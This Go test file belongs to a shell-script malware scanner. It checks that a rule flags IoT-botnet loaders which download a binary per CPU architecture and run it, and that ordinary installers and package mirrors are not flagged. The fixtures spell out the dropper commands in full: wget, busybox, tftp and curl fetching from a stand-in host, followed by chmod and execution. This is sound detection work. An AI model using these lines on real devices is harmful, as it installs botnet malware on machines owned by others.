package shell

import (
	"fmt"
	"strings"
	"testing"
)

// TestArchDropper: a script fetching one build per CPU architecture and running each (the
// loader of an IoT botnet) is STRATA-MW-002, in one line per architecture, a loop over the
// names, busybox's tools and tftp; an installer choosing one build by uname -m, and a mirror
// script that only downloads, stay silent.
func TestArchDropper(t *testing.T) {
	arches := []string{"x86", "mips", "mpsl", "arm4", "arm7", "ppc", "m68k", "sh4"}
	var lines, bb, tftp []string
	for _, a := range arches {
		lines = append(lines, fmt.Sprintf("cd /tmp || cd /var/run; wget http://203.0.113.8/bins/k.%s; chmod +x k.%s; ./k.%s ssh", a, a, a))
		bb = append(bb, fmt.Sprintf("busybox wget http://203.0.113.8:81/%s -O- > .d; busybox chmod 777 .d; ./.d %s", a, a))
		tftp = append(tftp, fmt.Sprintf("tftp -g -r bot-%s 203.0.113.8 || curl -s -o bot http://203.0.113.8/bot-%s; chmod +x bot; ./bot", a, a))
	}
	for name, text := range map[string]string{
		"lines":   "#!/bin/bash\n" + strings.Join(lines, "\n") + "\n",
		"busybox": "#!/bin/sh\n" + strings.Join(bb, "\n") + "\n",
		"tftp":    "#!/bin/sh\n" + strings.Join(tftp, "\n") + "\n",
		"loop":    "#!/bin/sh\nfor a in x86 mips mpsl arm7 ppc; do\n  cd /tmp; wget -q http://203.0.113.8/b.$a -O .b; chmod +x .b; ./.b $a; rm -f .b\ndone\n",
		"loop2":   "#!/bin/sh\nA=\"armv7l aarch64 i686 mipsel\"\nfor arch in armv7l aarch64 i686 mipsel; do curl -so /dev/shm/x http://203.0.113.8/x-${arch}; chmod +x /dev/shm/x; /dev/shm/x; done\n",
	} {
		fs := scanFile("/tmp/"+name+".sh", text)
		ok := false
		for _, f := range fs {
			if f.Rule == RuleDropRun && strings.Contains(f.Title, "architectures") {
				ok = true
			}
		}
		if !ok {
			t.Errorf("%s: %v", name, fs)
		}
	}
	for name, text := range map[string]string{
		"uname":  "#!/bin/sh\ncase $(uname -m) in x86_64) a=amd64;; aarch64) a=arm64;; armv7l) a=arm;; esac\ncurl -fsSLo /usr/local/bin/tool https://example.org/releases/tool-linux-$a\nchmod +x /usr/local/bin/tool\n",
		"mirror": "#!/bin/sh\nfor a in amd64 arm64 ppc64 mips; do wget -q https://deb.example.org/dists/stable/main/binary-$a/Packages.gz -P /srv/mirror/$a; done\n",
	} {
		for _, f := range scanFile("/usr/local/bin/"+name, text) {
			if strings.Contains(f.Title, "architectures") {
				t.Errorf("%s: %v", name, f)
			}
		}
	}
}
